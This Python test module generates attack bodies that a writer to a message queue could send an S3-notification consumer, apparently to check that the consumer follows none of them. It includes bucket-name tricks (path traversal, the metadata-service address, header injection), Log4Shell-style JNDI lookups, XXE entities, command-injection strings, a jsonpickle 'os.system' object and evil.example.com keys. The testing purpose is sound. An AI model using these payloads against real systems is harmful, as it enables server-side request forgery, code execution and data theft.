"""Bodies that somebody who may write to the queue would send, by name: what they attack is in the name.

Each carries `evil-NNN`, a word of its own, wherever it wants to lead; so a door that records what passes can
tell whether anybody followed it.
"""

from __future__ import annotations

import json
from functools import partial
from typing import Any, Callable, Dict, List, NamedTuple, Sequence

__all__ = ["Attack", "attacks"]


class Attack(NamedTuple):
    """`word` must be in no request. `kept`: its copy must be in quarantine (else it needs no work at all)."""

    name: str
    body: str
    word: str
    kept: bool = True


Shape = Callable[[str, str], Any]


def attacks(ours: str, account: str) -> List[Attack]:
    """All of them, against an input whose bucket is `ours`."""
    found: List[Attack] = []

    def add(name: str, make: Callable[[str], Any], *, kept: bool = True) -> None:
        word = f"evil-{len(found):03d}"
        body = make(word)
        found.append(Attack(name, body if isinstance(body, str) else json.dumps(body), word, kept))

    for shape, made in SHAPES.items():
        for trick, bucket in _buckets(ours, account).items():
            if not (shape == "config" and set(bucket("x")) & set('"\\\0/')):
                add(f"{shape}: {trick}", _named(made, bucket))
    for name, make in _wrapped(ours).items():
        add(name, make)
    add("a subscription to confirm", partial(_confirmation, kind="SubscriptionConfirmation"))
    add("a subscription that was ended", partial(_confirmation, kind="UnsubscribeConfirmation"))
    for name, make in _harmless(ours).items():
        add(name, make, kept=False)
    return found


def _named(shape: Shape, bucket: Callable[[str], str]) -> Callable[[str], Any]:
    return lambda word: shape(bucket(word), f"audits/{word}.json")


# -- how a body may name an object


def _s3(bucket: str, key: str) -> Any:
    entity = {"bucket": {"name": bucket}, "object": {"key": key, "eTag": "0f"}}
    return {"Records": [{"eventVersion": "2.1", "eventName": "ObjectCreated:Put", "s3": entity}]}


def _eventbridge(bucket: str, key: str) -> Any:
    detail = {"bucket": {"name": bucket}, "object": {"key": key, "etag": "0f"}}
    return {"source": "aws.s3", "detail-type": "Object Created", "region": "eu-west-1", "detail": detail}


def _api_call(bucket: str, key: str) -> Any:
    asked = {"bucketName": bucket, "key": key}
    detail = {"eventName": "PutObject", "requestParameters": asked}
    return {"detail-type": "AWS API Call via CloudTrail", "detail": detail}


def _cloudtrail(bucket: str, key: str) -> Any:
    return {"s3Bucket": bucket, "s3ObjectKey": [key]}


def _pointer(bucket: str, key: str) -> Any:
    return ["software.amazon.payloadoffloading.PayloadS3Pointer", {"s3BucketName": bucket, "s3Key": key}]


def _file_list(bucket: str, key: str) -> Any:
    return {"bucket": bucket, "files": [{"path": key, "size": 3, "checksum": "0f"}]}


def _config(bucket: str, key: str) -> Any:
    kind = '"messageType":"OversizedConfigurationItemChangeNotification"'
    return f'{{{kind},"s3BucketLocation":"{bucket}/{key}"}}'


SHAPES: Dict[str, Shape] = {
    "s3": _s3, "eventbridge": _eventbridge, "an api call": _api_call, "cloudtrail": _cloudtrail,
    "a pointer": _pointer, "a list of files": _file_list, "config": _config,
}


def _buckets(ours: str, account: str) -> Dict[str, Callable[[str], str]]:
    here, outposts = f"arn:aws:s3:eu-west-1:{account}", f"arn:aws:s3-outposts:eu-west-1:{account}"
    return {
        "another bucket": lambda word: word,
        "a bucket that begins as ours": lambda word: f"{ours}-{word}",
        "a host below another domain": lambda word: f"{ours}.{word}.example.com",
        "a path back from ours": lambda word: f"{ours}/../{word}",
        "a path into ours": lambda word: f"{word}/{ours}",
        "an encoded path": lambda word: f"{ours}%2f..%2f{word}",
        "an access point": lambda word: f"{here}:accesspoint/{word}",
        "an access point of ours": lambda word: f"arn:aws:s3:eu-west-1:999999999999:accesspoint/{ours}",
        "an outpost": lambda word: f"{outposts}:outpost/{word}/accesspoint/{ours}",
        "a user before a host": lambda word: f"{ours}@{word}.example.com",
        "a port": lambda word: f"{ours}:80@{word}",
        "a query": lambda word: f"{ours}?{word}",
        "a fragment": lambda word: f"{ours}#{word}",
        "the metadata service": lambda word: "169.254.169.254",
        "a line of a header": lambda word: f"{ours}\r\nHost: {word}",
        "a zero byte": lambda word: f"{ours}\0{word}",
        "our name in capitals": lambda word: ours.upper(),
        "our name with a blank": lambda word: f"{ours} ",
        "our name in full width": lambda word: "".join(chr(ord(letter) + 0xFEE0) for letter in ours),
    }


def _record(ours: str, key: Any, **entity: Any) -> Any:
    found = _s3(ours, "x")
    found["Records"][0]["s3"]["object"] = {"key": key, **entity}
    return found


def _wrapped(ours: str) -> Dict[str, Callable[[str], Any]]:
    """What hides where it leads, or is no notification."""

    def sns(word: str, **fields: Any) -> Any:
        envelope = {"Type": "Notification", "TopicArn": f"arn:aws:sns:eu-west-1:1:{word}", "MessageId": word,
                    "Message": json.dumps(_s3(word, "k")), "SigningCertURL": f"http://{word}.example.com/c.pem",
                    "SubscribeURL": f"http://{word}.example.com/", "Signature": "AAAA"}
        return {**envelope, **fields}

    return {
        "in an envelope of SNS": sns,
        "in an envelope in an envelope": lambda word: sns(word, Message=json.dumps(sns(word))),
        "in a record of Lambda": lambda word: {"Records": [
            {"messageId": "1", "body": json.dumps(_s3(word, "k"))}]},
        "in a record of Lambda about SNS": lambda word: {"Records": [{"Sns": sns(word)}]},
        "in a string in a string": lambda word: json.dumps(json.dumps(_s3(word, "k"))),
        "in a list": lambda word: [_s3(word, "k"), _cloudtrail(word, "k")],
        "in lines": lambda word: f"{json.dumps(_s3(word, 'k'))}\n{json.dumps(_eventbridge(word, 'k'))}",
        "a pointer in an envelope": lambda word: sns(word, Message=json.dumps(_pointer(word, "k"))),
        "a pointer of an older library": lambda word: [
            "com.amazon.sqs.javamessaging.MessageS3Pointer", {"s3BucketName": word, "s3Key": "k"}],
        "a bucket that is given twice": lambda word: json.dumps(_s3(word, "k")).replace(
            '"name": ', f'"name": "{ours}", "name": ', 1),
        "a key that is no text": lambda word: _record(ours, "a%FF" + word),
        "a key that is half a character": lambda word: _record(ours, "%ED%A0%80" + word),
        "an unknown version of events": lambda word: json.loads(
            json.dumps(_record(ours, word)).replace('"2.1"', '"9.0"')),
        "a URL": lambda word: f"http://{word}.example.com/",
        "an external entity": lambda word: f'<!DOCTYPE x [<!ENTITY e SYSTEM "http://{word}.example.com/">]><x>&e;</x>',
        "a lookup of names": lambda word: f"${{jndi:ldap://{word}.example.com/a}}",
        "an expression": lambda word: f"{{{{7*7}}}} $({word}) `{word}` %s%n",
        "an object to be made": lambda word: {"py/object": "os.system", "args": [word]},
        "a pickle": lambda word: f"gASVKAAAAAAAAACMBXBvc2l4{word}",
        "digits without end": lambda word: _record(word, "k", size="9" * 5000),
        "depth": lambda word: "[" * 50_000 + word + "]" * 50_000,
        "a terminal": lambda word: json.dumps(f"\u001b]0;{word}\u0007\u001b[2J\u202e"),
    }


def _confirmation(word: str, *, kind: str) -> Any:
    return {"Type": kind, "TopicArn": "arn:aws:sns:eu-west-1:1:t", "Token": word, "Message": "m",
            "SubscribeURL": f"http://{word}.example.com/?Action=ConfirmSubscription"}


def _harmless(ours: str) -> Dict[str, Callable[[str], Any]]:
    """What asks for nothing: deleted, and no URL in it visited."""
    return {
        "a test event of another bucket": lambda word: {"Event": "s3:TestEvent", "Bucket": word, "Time": ""},
        "a deletion in another bucket": lambda word: json.loads(
            json.dumps(_s3(word, "k")).replace("ObjectCreated:Put", "ObjectRemoved:Delete")),
    }


#: Keys in our own bucket that would be something else in a path, a header, a file system or a terminal.
KEYS: Sequence[str] = (
    "../../../other/k", "/leading/k", "a//b", "k?acl", "k?versionId=null&x=1", "k#fragment", "k%2F..%2Fx",
    "k;x=1", "http://evil.example.com/k", "//evil.example.com/k", "k\\..\\x", "k&X-Amz-Signature=0", "k=1+1",
    "k\u202etxt.exe", "\u00e9\u0301", "k'\"`$(id)|;", "<script>k</script>", "~k/./..", "{0.__class__}", "-rf",
)
